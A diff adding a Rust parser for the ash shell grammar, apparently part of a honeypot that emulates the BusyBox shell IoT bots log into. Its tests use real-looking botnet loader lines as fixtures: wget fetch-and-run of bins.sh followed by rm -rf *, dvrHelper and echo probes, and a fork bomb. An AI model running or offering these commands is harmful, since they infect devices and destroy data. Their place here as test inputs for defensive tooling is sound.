@@ -1,0 +1,1008 @@
+//! Parser for the ash grammar bots use: lists (`;`, `&`, newline), `&&`/`||`,
+//! pipelines with `!`, simple commands with assignments and redirections, `( )`,
+//! `{ ; }`, `if`/`elif`/`else`, `for … in`, `while`/`until`, function definitions,
+//! and words with quoting and `$…` expansions.
+//!
+//! Like ash, a whole input line is parsed before anything runs, so a syntax error
+//! anywhere means nothing on the line runs. Nesting is bounded by [`MAX_DEPTH`].
+
+use std::sync::Arc;
+
+/// Deepest nesting of compound commands and substitutions the parser accepts.
+pub const MAX_DEPTH: usize = 64;
+
+/// Part of a word, before expansion.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Part {
+    /// Unquoted literal text (subject to globbing).
+    Lit(Vec<u8>),
+    /// Quoted literal text (from `'…'`, `\x`, or literal text inside `"…"`).
+    Quoted(Vec<u8>),
+    /// `"…"`: its parts are expanded but not split or globbed.
+    Double(Vec<Part>),
+    /// `$name`, `${name}` and `${name<op>word}`.
+    Param(ParamExp),
+    /// `$(…)` or `` `…` ``.
+    Command(Arc<List>),
+    /// `$((…))`, the raw expression (expanded before evaluation).
+    Arith(Vec<Part>),
+}
+
+/// A parameter expansion.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct ParamExp {
+    /// Name (`?`, `$`, `#`, `@`, `*`, `0`-`9`, or a variable name).
+    pub name: String,
+    /// `${#name}`
+    pub length: bool,
+    /// `${name:-word}` and friends: (operator, colon, word).
+    pub op: Option<(u8, bool, Vec<Part>)>,
+}
+
+/// A word: the concatenation of its parts.
+pub type Word = Vec<Part>;
+
+/// Redirection operators.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum RedirOp {
+    /// `>` (and `>|`)
+    Out,
+    /// `>>`
+    Append,
+    /// `<`
+    In,
+    /// `>&N` / `<&N`
+    Dup,
+    /// `<>`
+    ReadWrite,
+}
+
+/// `[fd]op target`
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Redir {
+    /// File descriptor redirected.
+    pub fd: u8,
+    /// Operator.
+    pub op: RedirOp,
+    /// Target word (a file name, or a descriptor number / `-` for `Dup`).
+    pub target: Word,
+}
+
+/// A command.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Command {
+    /// `a=b cmd args <redirs>`
+    Simple {
+        /// Variable assignments before the command name.
+        assigns: Vec<(String, Word)>,
+        /// Command name and arguments.
+        words: Vec<Word>,
+        /// Redirections.
+        redirs: Vec<Redir>,
+    },
+    /// A compound command with its redirections.
+    Compound(Compound, Vec<Redir>),
+    /// `name() body`
+    FuncDef(String, Arc<Command>),
+}
+
+/// Compound commands.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Compound {
+    /// `( list )`
+    Subshell(List),
+    /// `{ list; }`
+    Group(List),
+    /// `if`/`elif` clauses (condition, body) and the `else` body.
+    If(Vec<(List, List)>, Option<List>),
+    /// `for name [in words]; do list; done`
+    For(String, Option<Vec<Word>>, List),
+    /// `while`/`until` (true for until), condition, body.
+    While(bool, List, List),
+}
+
+/// `[!] cmd | cmd | …`
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Pipeline {
+    /// `!` in front.
+    pub negate: bool,
+    /// The commands.
+    pub commands: Vec<Command>,
+}
+
+/// `pipeline && pipeline || …`
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct AndOr {
+    /// The first pipeline.
+    pub first: Pipeline,
+    /// Each following pipeline with true for `&&`, false for `||`.
+    pub rest: Vec<(bool, Pipeline)>,
+}
+
+/// A list of and-or lists, each with true if it runs in the background (`&`).
+#[derive(Clone, Debug, PartialEq, Eq, Default)]
+pub struct List(pub Vec<(AndOr, bool)>);
+
+/// Why a line did not parse; `Display` is ash's wording after `syntax error: `.
+#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
+pub enum SyntaxError {
+    /// `unexpected "fi"`, `unexpected ";;"`, `unexpected end of file`…
+    #[error("unexpected {0}")]
+    Unexpected(String),
+    /// An unterminated `'`, `"` or `` ` ``.
+    #[error("unterminated quoted string")]
+    Unterminated,
+    /// Nesting beyond [`MAX_DEPTH`].
+    #[error("too deeply nested")]
+    TooDeep,
+    /// A bad `${…}`.
+    #[error("bad substitution")]
+    BadSubstitution,
+    /// `word()` where word is not a name (ash's wording; `:(){ :|:& };:` ends here).
+    #[error("bad function name")]
+    BadFunctionName,
+}
+
+const RESERVED: &[&str] = &[
+    "if", "then", "elif", "else", "fi", "for", "in", "do", "done", "while", "until", "case",
+    "esac", "{", "}", "!",
+];
+
+/// Parses one input (a command line, or a whole script).
+pub fn parse(src: &[u8]) -> Result<List, SyntaxError> {
+    let mut p = Parser {
+        src,
+        pos: 0,
+        depth: 0,
+    };
+    let list = p.list(&[])?;
+    p.skip_blank_and_newlines();
+    match p.peek() {
+        None => Ok(list),
+        Some(_) => Err(p.unexpected()),
+    }
+}
+
+struct Parser<'a> {
+    src: &'a [u8],
+    pos: usize,
+    depth: usize,
+}
+
+fn is_name_start(b: u8) -> bool {
+    b.is_ascii_alphabetic() || b == b'_'
+}
+
+fn is_name(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_'
+}
+
+/// Bytes that end an unquoted word.
+fn is_meta(b: u8) -> bool {
+    matches!(
+        b,
+        b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')'
+    )
+}
+
+impl Parser<'_> {
+    fn peek(&self) -> Option<u8> {
+        self.src.get(self.pos).copied()
+    }
+
+    fn peek_at(&self, off: usize) -> Option<u8> {
+        self.src.get(self.pos + off).copied()
+    }
+
+    fn rest(&self) -> &[u8] {
+        self.src.get(self.pos..).unwrap_or_default()
+    }
+
+    fn enter(&mut self) -> Result<(), SyntaxError> {
+        self.depth += 1;
+        if self.depth > MAX_DEPTH {
+            return Err(SyntaxError::TooDeep);
+        }
+        Ok(())
+    }
+
+    fn leave(&mut self) {
+        self.depth = self.depth.saturating_sub(1);
+    }
+
+    fn skip_blank(&mut self) {
+        while let Some(b) = self.peek() {
+            match b {
+                b' ' | b'\t' => self.pos += 1,
+                b'\\' if self.peek_at(1) == Some(b'\n') => self.pos += 2,
+                b'#' => {
+                    while self.peek().is_some_and(|b| b != b'\n') {
+                        self.pos += 1;
+                    }
+                }
+                _ => break,
+            }
+        }
+    }
+
+    fn skip_blank_and_newlines(&mut self) {
+        loop {
+            self.skip_blank();
+            if self.peek() == Some(b'\n') {
+                self.pos += 1;
+            } else {
+                break;
+            }
+        }
+    }
+
+    /// The next token as ash would name it in "unexpected …".
+    fn unexpected(&mut self) -> SyntaxError {
+        self.skip_blank();
+        let rest = self.rest();
+        let Some(&first) = rest.first() else {
+            return SyntaxError::Unexpected("end of file".into());
+        };
+        for op in [
+            &b";;"[..],
+            b"&&",
+            b"||",
+            b">>",
+            b"<<",
+            b";",
+            b"&",
+            b"|",
+            b"(",
+            b")",
+            b"<",
+            b">",
+        ] {
+            if rest.starts_with(op) {
+                return SyntaxError::Unexpected(format!("\"{}\"", String::from_utf8_lossy(op)));
+            }
+        }
+        if first == b'\n' {
+            return SyntaxError::Unexpected("newline".into());
+        }
+        let end = rest.iter().position(|&b| is_meta(b)).unwrap_or(rest.len());
+        SyntaxError::Unexpected(format!(
+            "\"{}\"",
+            String::from_utf8_lossy(rest.get(..end).unwrap_or_default())
+        ))
+    }
+
+    /// The reserved word at the cursor, if the next word is exactly one.
+    fn reserved(&self) -> Option<&'static str> {
+        let rest = self.rest();
+        RESERVED.iter().copied().find(|w| {
+            rest.starts_with(w.as_bytes())
+                && rest.get(w.len()).is_none_or(|&b| is_meta(b) || b == b'\n')
+        })
+    }
+
+    fn eat_reserved(&mut self, word: &str) -> bool {
+        self.skip_blank();
+        if self.reserved() == Some(word) {
+            self.pos += word.len();
+            true
+        } else {
+            false
+        }
+    }
+
+    fn expect_reserved(&mut self, word: &str) -> Result<(), SyntaxError> {
+        self.skip_blank_and_newlines();
+        if self.eat_reserved(word) {
+            Ok(())
+        } else {
+            Err(self.unexpected())
+        }
+    }
+
+    /// A list, stopping before any of `stops` (reserved words) or `)`/EOF.
+    fn list(&mut self, stops: &[&str]) -> Result<List, SyntaxError> {
+        let mut items = Vec::new();
+        loop {
+            self.skip_blank_and_newlines();
+            match self.peek() {
+                None | Some(b')') => break,
+                _ => {}
+            }
+            if let Some(w) = self.reserved() {
+                if stops.contains(&w)
+                    || matches!(
+                        w,
+                        "then" | "elif" | "else" | "fi" | "do" | "done" | "}" | "in"
+                    )
+                {
+                    break;
+                }
+            }
+            if self.rest().starts_with(b";;")
+                || self.peek() == Some(b';')
+                || self.peek() == Some(b'&')
+            {
+                return Err(self.unexpected());
+            }
+            let and_or = self.and_or()?;
+            self.skip_blank();
+            let (background, separated) = match self.peek() {
+                Some(b'&') if self.peek_at(1) != Some(b'&') => {
+                    self.pos += 1;
+                    (true, true)
+                }
+                Some(b';') if self.peek_at(1) != Some(b';') => {
+                    self.pos += 1;
+                    (false, true)
+                }
+                _ => (false, false),
+            };
+            items.push((and_or, background));
+            self.skip_blank();
+            match self.peek() {
+                Some(b'\n') | None | Some(b')') => {}
+                _ if separated || self.reserved().is_some() => {}
+                _ => return Err(self.unexpected()),
+            }
+        }
+        Ok(List(items))
+    }
+
+    fn and_or(&mut self) -> Result<AndOr, SyntaxError> {
+        let first = self.pipeline()?;
+        let mut rest = Vec::new();
+        loop {
+            self.skip_blank();
+            let and = if self.rest().starts_with(b"&&") {
+                true
+            } else if self.rest().starts_with(b"||") {
+                false
+            } else {
+                break;
+            };
+            self.pos += 2;
+            self.skip_blank_and_newlines();
+            rest.push((and, self.pipeline()?));
+        }
+        Ok(AndOr { first, rest })
+    }
+
+    fn pipeline(&mut self) -> Result<Pipeline, SyntaxError> {
+        self.skip_blank();
+        let negate = self.eat_reserved("!");
+        let mut commands = vec![self.command()?];
+        loop {
+            self.skip_blank();
+            if self.peek() == Some(b'|') && self.peek_at(1) != Some(b'|') {
+                self.pos += 1;
+                self.skip_blank_and_newlines();
+                commands.push(self.command()?);
+            } else {
+                break;
+            }
+        }
+        Ok(Pipeline { negate, commands })
+    }
+
+    fn command(&mut self) -> Result<Command, SyntaxError> {
+        self.skip_blank();
+        self.enter()?;
+        let result = self.command_inner();
+        self.leave();
+        result
+    }
+
+    fn command_inner(&mut self) -> Result<Command, SyntaxError> {
+        let compound = match (self.peek(), self.reserved()) {
+            (Some(b'('), _) => {
+                self.pos += 1;
+                let body = self.list(&[])?;
+                self.skip_blank_and_newlines();
+                if self.peek() != Some(b')') {
+                    return Err(self.unexpected());
+                }
+                self.pos += 1;
+                Some(Compound::Subshell(body))
+            }
+            (_, Some("{")) => {
+                self.pos += 1;
+                let body = self.list(&["}"])?;
+                self.expect_reserved("}")?;
+                Some(Compound::Group(body))
+            }
+            (_, Some("if")) => {
+                self.pos += 2;
+                let mut clauses = Vec::new();
+                let mut otherwise = None;
+                loop {
+                    let cond = self.list(&["then"])?;
+                    self.expect_reserved("then")?;
+                    let body = self.list(&["elif", "else", "fi"])?;
+                    clauses.push((cond, body));
+                    self.skip_blank_and_newlines();
+                    if self.eat_reserved("elif") {
+                        continue;
+                    }
+                    if self.eat_reserved("else") {
+                        otherwise = Some(self.list(&["fi"])?);
+                    }
+                    self.expect_reserved("fi")?;
+                    break;
+                }
+                Some(Compound::If(clauses, otherwise))
+            }
+            (_, Some(kw @ ("while" | "until"))) => {
+                self.pos += kw.len();
+                let cond = self.list(&["do"])?;
+                self.expect_reserved("do")?;
+                let body = self.list(&["done"])?;
+                self.expect_reserved("done")?;
+                Some(Compound::While(kw == "until", cond, body))
+            }
+            (_, Some("for")) => {
+                self.pos += 3;
+                self.skip_blank();
+                let name = self.name().ok_or_else(|| self.unexpected())?;
+                self.skip_blank_and_newlines();
+                let words = if self.eat_reserved("in") {
+                    let mut words = Vec::new();
+                    loop {
+                        self.skip_blank();
+                        match self.peek() {
+                            Some(b';') | Some(b'\n') => {
+                                self.pos += 1;
+                                break;
+                            }
+                            None => return Err(self.unexpected()),
+                            _ => words.push(self.word()?.ok_or_else(|| self.unexpected())?),
+                        }
+                    }
+                    Some(words)
+                } else {
+                    self.skip_blank();
+                    if self.peek() == Some(b';') {
+                        self.pos += 1;
+                    }
+                    None
+                };
+                self.expect_reserved("do")?;
+                let body = self.list(&["done"])?;
+                self.expect_reserved("done")?;
+                Some(Compound::For(name, words, body))
+            }
+            (
+                _,
+                Some(
+                    w @ ("then" | "elif" | "else" | "fi" | "do" | "done" | "}" | "in" | "case"
+                    | "esac"),
+                ),
+            ) => {
+                return Err(SyntaxError::Unexpected(format!("\"{w}\"")));
+            }
+            _ => None,
+        };
+        if let Some(c) = compound {
+            let redirs = self.redirections()?;
+            return Ok(Command::Compound(c, redirs));
+        }
+        // Function definition: word ( ) body
+        let save = self.pos;
+        let raw_end = self
+            .rest()
+            .iter()
+            .position(|&b| is_meta(b) || matches!(b, b'\'' | b'"' | b'`' | b'$' | b'\\'));
+        let raw = self
+            .rest()
+            .get(..raw_end.unwrap_or(self.rest().len()))
+            .unwrap_or_default()
+            .to_vec();
+        if !raw.is_empty() {
+            self.pos += raw.len();
+            self.skip_blank();
+            if self.peek() == Some(b'(') {
+                if raw.contains(&b'=') {
+                    return Err(self.unexpected());
+                }
+                let valid = raw.first().is_some_and(|&b| is_name_start(b))
+                    && raw.iter().all(|&b| is_name(b));
+                if !valid {
+                    return Err(SyntaxError::BadFunctionName);
+                }
+                self.pos += 1;
+                self.skip_blank();
+                if self.peek() != Some(b')') {
+                    return Err(self.unexpected());
+                }
+                self.pos += 1;
+                self.skip_blank_and_newlines();
+                let body = self.command()?;
+                let name = String::from_utf8_lossy(&raw).into_owned();
+                return Ok(Command::FuncDef(name, Arc::new(body)));
+            }
+        }
+        self.pos = save;
+        self.simple()
+    }
+
+    fn name(&mut self) -> Option<String> {
+        let start = self.pos;
+        if !self.peek().is_some_and(is_name_start) {
+            return None;
+        }
+        while self.peek().is_some_and(is_name) {
+            self.pos += 1;
+        }
+        Some(
+            String::from_utf8_lossy(self.src.get(start..self.pos).unwrap_or_default()).into_owned(),
+        )
+    }
+
+    fn redirections(&mut self) -> Result<Vec<Redir>, SyntaxError> {
+        let mut out = Vec::new();
+        loop {
+            self.skip_blank();
+            match self.redirection()? {
+                Some(r) => out.push(r),
+                None => return Ok(out),
+            }
+        }
+    }
+
+    fn redirection(&mut self) -> Result<Option<Redir>, SyntaxError> {
+        let save = self.pos;
+        let mut fd = None;
+        if let Some(d) = self.peek().filter(u8::is_ascii_digit) {
+            if matches!(self.peek_at(1), Some(b'<') | Some(b'>')) {
+                fd = Some(d - b'0');
+                self.pos += 1;
+            }
+        }
+        let rest = self.rest();
+        let (op, len, default_fd) = if rest.starts_with(b">>") {
+            (RedirOp::Append, 2, 1)
+        } else if rest.starts_with(b">&") {
+            (RedirOp::Dup, 2, 1)
+        } else if rest.starts_with(b">|") {
+            (RedirOp::Out, 2, 1)
+        } else if rest.starts_with(b"<&") {
+            (RedirOp::Dup, 2, 0)
+        } else if rest.starts_with(b"<>") {
+            (RedirOp::ReadWrite, 2, 0)
+        } else if rest.starts_with(b"<<") {
+            // Here-documents need more lines than one; bots do not send them.
+            return Err(SyntaxError::Unexpected("\"<<\"".into()));
+        } else if rest.starts_with(b">") {
+            (RedirOp::Out, 1, 1)
+        } else if rest.starts_with(b"<") {
+            (RedirOp::In, 1, 0)
+        } else {
+            self.pos = save;
+            return Ok(None);
+        };
+        self.pos += len;
+        self.skip_blank();
+        let target = match self.word()? {
+            Some(w) => w,
+            None => return Err(self.unexpected()),
+        };
+        Ok(Some(Redir {
+            fd: fd.unwrap_or(default_fd),
+            op,
+            target,
+        }))
+    }
+
+    fn simple(&mut self) -> Result<Command, SyntaxError> {
+        let mut assigns = Vec::new();
+        let mut words = Vec::new();
+        let mut redirs = Vec::new();
+        loop {
+            self.skip_blank();
+            if let Some(r) = self.redirection()? {
+                redirs.push(r);
+                continue;
+            }
+            match self.peek() {
+                None => break,
+                Some(b) if is_meta(b) => break,
+                _ => {}
+            }
+            if words.is_empty() {
+                // NAME=value before the command name.
+                let save = self.pos;
+                if let Some(name) = self.name() {
+                    if self.peek() == Some(b'=') {
+                        self.pos += 1;
+                        let value = self.word()?.unwrap_or_default();
+                        assigns.push((name, value));
+                        continue;
+                    }
+                }
+                self.pos = save;
+            }
+            match self.word()? {
+                Some(w) => words.push(w),
+                None => break,
+            }
+        }
+        if words.is_empty() && assigns.is_empty() && redirs.is_empty() {
+            return Err(self.unexpected());
+        }
+        Ok(Command::Simple {
+            assigns,
+            words,
+            redirs,
+        })
+    }
+
+    /// One word, or None if the cursor is at a metacharacter.
+    fn word(&mut self) -> Result<Option<Word>, SyntaxError> {
+        let mut parts = Vec::new();
+        let start = self.pos;
+        while let Some(b) = self.peek() {
+            if is_meta(b) {
+                break;
+            }
+            match b {
+                b'\'' => {
+                    self.pos += 1;
+                    let end = self
+                        .rest()
+                        .iter()
+                        .position(|&c| c == b'\'')
+                        .ok_or(SyntaxError::Unterminated)?;
+                    let text = self.rest().get(..end).unwrap_or_default().to_vec();
+                    self.pos += end + 1;
+                    parts.push(Part::Quoted(text));
+                }
+                b'"' => {
+                    self.pos += 1;
+                    parts.push(Part::Double(self.double_quoted()?));
+                }
+                b'\\' => {
+                    self.pos += 1;
+                    match self.peek() {
+                        Some(b'\n') => self.pos += 1,
+                        Some(c) => {
+                            self.pos += 1;
+                            parts.push(Part::Quoted(vec![c]));
+                        }
+                        None => parts.push(Part::Lit(vec![b'\\'])),
+                    }
+                }
+                b'$' => parts.push(self.dollar()?),
+                b'`' => parts.push(self.backquote()?),
+                _ => {
+                    self.pos += 1;
+                    match parts.last_mut() {
+                        Some(Part::Lit(v)) => v.push(b),
+                        _ => parts.push(Part::Lit(vec![b])),
+                    }
+                }
+            }
+        }
+        Ok((self.pos > start).then_some(parts))
+    }
+
+    fn double_quoted(&mut self) -> Result<Vec<Part>, SyntaxError> {
+        let mut parts = Vec::new();
+        loop {
+            let Some(b) = self.peek() else {
+                return Err(SyntaxError::Unterminated);
+            };
+            match b {
+                b'"' => {
+                    self.pos += 1;
+                    return Ok(parts);
+                }
+                b'\\' if matches!(self.peek_at(1), Some(b'$' | b'`' | b'"' | b'\\' | b'\n')) => {
+                    let c = self.peek_at(1).unwrap_or(b'\\');
+                    self.pos += 2;
+                    if c != b'\n' {
+                        push_quoted(&mut parts, c);
+                    }
+                }
+                b'$' => parts.push(self.dollar()?),
+                b'`' => parts.push(self.backquote()?),
+                _ => {
+                    self.pos += 1;
+                    push_quoted(&mut parts, b);
+                }
+            }
+        }
+    }
+
+    fn backquote(&mut self) -> Result<Part, SyntaxError> {
+        self.pos += 1;
+        let mut inner = Vec::new();
+        loop {
+            match self.peek() {
+                None => return Err(SyntaxError::Unterminated),
+                Some(b'`') => {
+                    self.pos += 1;
+                    break;
+                }
+                Some(b'\\') if matches!(self.peek_at(1), Some(b'`' | b'\\' | b'$')) => {
+                    inner.push(self.peek_at(1).unwrap_or(b'\\'));
+                    self.pos += 2;
+                }
+                Some(c) => {
+                    inner.push(c);
+                    self.pos += 1;
+                }
+            }
+        }
+        self.enter()?;
+        let list = parse_nested(&inner, self.depth);
+        self.leave();
+        Ok(Part::Command(Arc::new(list?)))
+    }
+
+    fn dollar(&mut self) -> Result<Part, SyntaxError> {
+        self.pos += 1;
+        match self.peek() {
+            Some(b'(') if self.peek_at(1) == Some(b'(') => {
+                self.pos += 2;
+                let start = self.pos;
+                let mut depth = 0usize;
+                loop {
+                    match self.peek() {
+                        None => return Err(SyntaxError::Unterminated),
+                        Some(b'(') => depth += 1,
+                        Some(b')') if depth == 0 && self.peek_at(1) == Some(b')') => break,
+                        Some(b')') => depth = depth.saturating_sub(1),
+                        _ => {}
+                    }
+                    self.pos += 1;
+                }
+                let raw = self.src.get(start..self.pos).unwrap_or_default().to_vec();
+                self.pos += 2;
+                let mut p = Parser {
+                    src: &raw,
+                    pos: 0,
+                    depth: self.depth,
+                };
+                Ok(Part::Arith(p.arith_parts()?))
+            }
+            Some(b'(') => {
+                self.pos += 1;
+                self.enter()?;
+                let list = self.list(&[])?;
+                self.leave();
+                self.skip_blank_and_newlines();
+                if self.peek() != Some(b')') {
+                    return Err(SyntaxError::Unterminated);
+                }
+                self.pos += 1;
+                Ok(Part::Command(Arc::new(list)))
+            }
+            Some(b'{') => {
+                self.pos += 1;
+                let length = self.peek() == Some(b'#') && self.peek_at(1) != Some(b'}');
+                if length {
+                    self.pos += 1;
+                }
+                let name = self.param_name().ok_or(SyntaxError::BadSubstitution)?;
+                let op = match self.peek() {
+                    Some(b'}') => None,
+                    Some(c) if !length => {
+                        let colon = c == b':';
+                        if colon {
+                            self.pos += 1;
+                        }
+                        let op = self
+                            .peek()
+                            .filter(|o| matches!(o, b'-' | b'=' | b'?' | b'+' | b'#' | b'%'));
+                        let op = op.ok_or(SyntaxError::BadSubstitution)?;
+                        self.pos += 1;
+                        let mut word = Vec::new();
+                        while let Some(b) = self.peek() {
+                            match b {
+                                b'}' => break,
+                                b'$' => word.push(self.dollar()?),
+                                b'"' => {
+                                    self.pos += 1;
+                                    word.push(Part::Double(self.double_quoted()?));
+                                }
+                                b'\'' => {
+                                    self.pos += 1;
+                                    let end = self
+                                        .rest()
+                                        .iter()
+                                        .position(|&c| c == b'\'')
+                                        .ok_or(SyntaxError::Unterminated)?;
+                                    word.push(Part::Quoted(
+                                        self.rest().get(..end).unwrap_or_default().to_vec(),
+                                    ));
+                                    self.pos += end + 1;
+                                }
+                                _ => {
+                                    self.pos += 1;
+                                    match word.last_mut() {
+                                        Some(Part::Lit(v)) => v.push(b),
+                                        _ => word.push(Part::Lit(vec![b])),
+                                    }
+                                }
+                            }
+                        }
+                        Some((op, colon, word))
+                    }
+                    _ => return Err(SyntaxError::BadSubstitution),
+                };
+                if self.peek() != Some(b'}') {
+                    return Err(SyntaxError::Unterminated);
+                }
+                self.pos += 1;
+                Ok(Part::Param(ParamExp { name, length, op }))
+            }
+            _ => match self.param_name() {
+                Some(name) => Ok(Part::Param(ParamExp {
+                    name,
+                    length: false,
+                    op: None,
+                })),
+                None => Ok(Part::Lit(vec![b'$'])),
+            },
+        }
+    }
+
+    fn param_name(&mut self) -> Option<String> {
+        match self.peek() {
+            Some(c)
+                if matches!(c, b'?' | b'$' | b'#' | b'@' | b'*' | b'!' | b'-')
+                    || c.is_ascii_digit() =>
+            {
+                self.pos += 1;
+                Some((c as char).to_string())
+            }
+            Some(c) if is_name_start(c) => self.name(),
+            _ => None,
+        }
+    }
+
+    /// The inside of `$((…))`: literal text with `$` expansions.
+    fn arith_parts(&mut self) -> Result<Vec<Part>, SyntaxError> {
+        let mut parts = Vec::new();
+        while let Some(b) = self.peek() {
+            if b == b'$' {
+                parts.push(self.dollar()?);
+            } else {
+                self.pos += 1;
+                match parts.last_mut() {
+                    Some(Part::Lit(v)) => v.push(b),
+                    _ => parts.push(Part::Lit(vec![b])),
+                }
+            }
+        }
+        Ok(parts)
+    }
+}
+
+fn push_quoted(parts: &mut Vec<Part>, b: u8) {
+    match parts.last_mut() {
+        Some(Part::Quoted(v)) => v.push(b),
+        _ => parts.push(Part::Quoted(vec![b])),
+    }
+}
+
+fn parse_nested(src: &[u8], depth: usize) -> Result<List, SyntaxError> {
+    let mut p = Parser { src, pos: 0, depth };
+    let list = p.list(&[])?;
+    p.skip_blank_and_newlines();
+    if p.peek().is_some() {
+        return Err(p.unexpected());
+    }
+    Ok(list)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn lit(s: &str) -> Part {
+        Part::Lit(s.as_bytes().to_vec())
+    }
+
+    #[test]
+    fn loader_lines_parse() {
+        for line in [
+            &b"/bin/busybox ps; /bin/busybox ECCHI"[..],
+            b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; /bin/busybox cat /var/.nippon; /bin/busybox rm /var/.nippon",
+            b"/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
+            b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://127.0.0.1/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *",
+            b"/bin/busybox cat /bin/busybox || while read i; do /bin/busybox echo ; done < /bin/busybox || /bin/busybox dd if=/bin/busybox bs=22 count=1",
+            b"for i in a b; do echo $i; done; if false; then :; elif true; then echo y; else echo n; fi",
+            b"(cd /; ls) && { echo a; echo b; } 2>&1 | cat >/dev/null",
+            b"echo ${X:-def} ${#X} $((1+2)) $(echo a) `echo b` \"$HOME/x\"",
+        ] {
+            parse(line).unwrap_or_else(|e| panic!("{}: {e}", String::from_utf8_lossy(line)));
+        }
+    }
+
+    #[test]
+    fn words_and_quotes() {
+        let list = parse(b"echo \"a b\"c'd e' \\$x").unwrap();
+        let Command::Simple { words, .. } = &list.0[0].0.first.commands[0] else {
+            panic!()
+        };
+        assert_eq!(words.len(), 3);
+        assert_eq!(words[0], vec![lit("echo")]);
+        assert_eq!(
+            words[1],
+            vec![
+                Part::Double(vec![Part::Quoted(b"a b".to_vec())]),
+                lit("c"),
+                Part::Quoted(b"d e".to_vec())
+            ]
+        );
+        assert_eq!(words[2], vec![Part::Quoted(b"$".to_vec()), lit("x")]);
+    }
+
+    #[test]
+    fn redirections() {
+        let list = parse(b"echo hi >a 2>/dev/null >>b 2>&1 <c").unwrap();
+        let Command::Simple { redirs, .. } = &list.0[0].0.first.commands[0] else {
+            panic!()
+        };
+        let ops: Vec<(u8, RedirOp)> = redirs.iter().map(|r| (r.fd, r.op)).collect();
+        assert_eq!(
+            ops,
+            [
+                (1, RedirOp::Out),
+                (2, RedirOp::Out),
+                (1, RedirOp::Append),
+                (2, RedirOp::Dup),
+                (0, RedirOp::In)
+            ]
+        );
+        let list = parse(b">dvrHelper").unwrap();
+        assert!(
+            matches!(&list.0[0].0.first.commands[0], Command::Simple { words, redirs, .. } if words.is_empty() && redirs.len() == 1)
+        );
+    }
+
+    #[test]
+    fn syntax_errors_use_ash_wording() {
+        assert_eq!(
+            parse(b"echo 'x").unwrap_err().to_string(),
+            "unterminated quoted string"
+        );
+        assert_eq!(parse(b"fi").unwrap_err().to_string(), "unexpected \"fi\"");
+        assert_eq!(
+            parse(b"echo a; fi").unwrap_err().to_string(),
+            "unexpected \"fi\""
+        );
+        assert_eq!(
+            parse(b"if true; then").unwrap_err().to_string(),
+            "unexpected end of file"
+        );
+        assert_eq!(parse(b";").unwrap_err().to_string(), "unexpected \";\"");
+        assert_eq!(
+            parse(b"a && ;").unwrap_err().to_string(),
+            "unexpected \";\""
+        );
+        assert_eq!(
+            parse(b"echo )").unwrap_err().to_string(),
+            "unexpected \")\""
+        );
+        assert_eq!(
+            parse(b":(){ :|:& };:").unwrap_err().to_string(),
+            "bad function name"
+        );
+        assert_eq!(
+            parse(b"a=b(){ x; }").unwrap_err().to_string(),
+            "unexpected \"(\""
+        );
+        assert!(
+            matches!(&parse(b"f (){ f|f& }; f").unwrap().0[0].0.first.commands[0], Command::FuncDef(n, _) if n == "f")
+        );
+    }
+
+    #[test]
+    fn deep_nesting_is_an_error_not_a_stack_overflow() {
+        let src = "(".repeat(10_000) + &")".repeat(10_000);
+        assert_eq!(parse(src.as_bytes()), Err(SyntaxError::TooDeep));
+        let src = "$(".repeat(10_000);
+        assert!(parse(src.as_bytes()).is_err());
+    }
+}
